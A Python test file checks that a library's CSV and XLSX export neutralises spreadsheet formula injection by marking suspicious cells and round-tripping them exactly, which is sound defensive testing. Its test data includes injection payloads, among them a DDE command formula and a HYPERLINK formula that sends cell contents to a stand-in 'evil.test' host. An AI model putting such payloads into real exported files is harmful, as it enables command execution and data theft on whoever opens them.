"""Exported text is no formula to a spreadsheet, and is the same text when it is read again."""

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmlab.comparison import Comparison
from llmlab.frames import read_rows, to_frame
from llmlab.frames.spreadsheet import marked, plain
from tests.test_damaged_files import rows

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test?q="&A1)', "+cmd|'x'!A0",
    "@SUM(A1)",
    "-2+3+cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1", "\uff1d1+1", "--1+A1",
    "-A1", "+", "=", "-", "\t", "=\n=", "-1-A1", "+1+1",
)  # fmt: skip
NUMBERS = ("-5", "+3.5", "-0.5%", "+1,234.5 %", "-.5", "-1e-7")
SEPARATED = ("a;=1+1", "a;  =1", "a\t=1", "a\n=1", "a\r\n@SUM(A1)", "a;+cmd|'x'!A0", "a\n--A1")
ORDINARY = (
    "positive",
    "a - b",
    "1 = 1",
    "a@b.test",
    "- no",
    "x;-5",
    "a\n- item\n+ more",
    "'quoted'",
)
PIECES = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    ";",
    "'",
    " ",
    "A1",
    "(",
    "5",
    "%",
    "\uff1d",
    '"',
    ",",
]


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_what_begins_a_formula_is_marked(text: str) -> None:
    """Signs of a formula, in full width too, after blanks, tabs and line ends."""
    assert marked(text).startswith("'")
    assert plain(marked(text)) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_signed_number_keeps_its_sign_and_gets_no_mark(text: str) -> None:
    """To a spreadsheet it is the number that it is."""
    assert marked(text) == text


@pytest.mark.parametrize("text", SEPARATED, ids=range(len(SEPARATED)))
def test_another_separator_makes_no_formula(text: str) -> None:
    """A spreadsheet that separates by `;`, tabs or lines finds the mark there, too."""
    for separator in (";", "\t", "\n"):
        for cell in marked(text).split(separator):
            assert cell.strip(" \r")[:1] not in {"=", "@", "+", "-"} or cell == text
    assert plain(marked(text)) == text


@pytest.mark.parametrize("text", ["- item", *ORDINARY[:4], *ORDINARY[5:]], ids=range(8))
def test_ordinary_text_is_left_alone_but_for_its_first_sign(text: str) -> None:
    """Bullets inside a text and signs between words need no mark; a first `-` does."""
    assert marked(text) == ("'- item" if text == "- item" else text)


@settings(max_examples=500)
@given(st.text() | st.lists(st.sampled_from(PIECES)).map("".join))
def test_marking_is_undone_exactly(text: str) -> None:
    """Whatever the text, apostrophes of its own included."""
    assert plain(marked(text)) == text


@settings(max_examples=60)
@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"]))
        | st.lists(st.sampled_from(PIECES), min_size=1).map("".join),
        min_size=6,
        max_size=6,
    )
)
def test_a_csv_gives_the_same_texts_back(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    """Exported and read: the frame as it was, with the mark and without."""
    folder = tmp_path_factory.mktemp("csv")
    frame = to_frame(rows())
    frame["text"] = pd.Series([text.replace("\0", "") or "x" for text in texts], dtype="string")
    frame["input_id"] = frame["text"] + "x"

    for safe in (True, False):
        path = Comparison("r", frame).export(folder / "rows.csv", spreadsheet_safe=safe)
        pd.testing.assert_frame_equal(read_rows(path, spreadsheet_safe=safe), frame)


def test_no_cell_of_an_exported_csv_begins_a_formula(tmp_path: Path) -> None:
    """Columns of text, categories too; numbers keep their sign."""
    frame = to_frame(rows())
    frame["text"] = pd.Series(FORMULAS[:6], dtype="string")
    frame["prompt"] = pd.Categorical(["=1+1"] * 6, categories=pd.Index(["=1+1"], dtype="str"))
    frame["score"] = -0.5

    path = Comparison("r", frame).export(tmp_path / "rows.csv")
    with path.open(newline="", encoding="utf-8") as file:
        cells = list(csv.DictReader(file))

    assert {row["prompt"] for row in cells} == {"'=1+1"}
    assert {row["score"] for row in cells} == {"-0.5"}
    assert [row["text"][1:] for row in cells] == list(FORMULAS[:6])
    pd.testing.assert_frame_equal(read_rows(path), frame)


def test_an_xlsx_holds_texts_as_texts(tmp_path: Path) -> None:
    """The text as it is, typed as text, and marked as one for whoever edits the cell."""
    frame = to_frame(rows())
    frame["text"] = pd.Series([*FORMULAS[:5], "fine"], dtype="string")

    book = openpyxl.load_workbook(Comparison("r", frame).export(tmp_path / "rows.xlsx"))
    sheet = book["rows"]
    column = [cell.value for cell in sheet[1]].index("text") + 1
    cells = [sheet.cell(row, column) for row in range(2, 8)]

    assert [cell.value for cell in cells] == [*FORMULAS[:5], "fine"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [bool(cell.quotePrefix) for cell in cells] == [True] * 5 + [False]
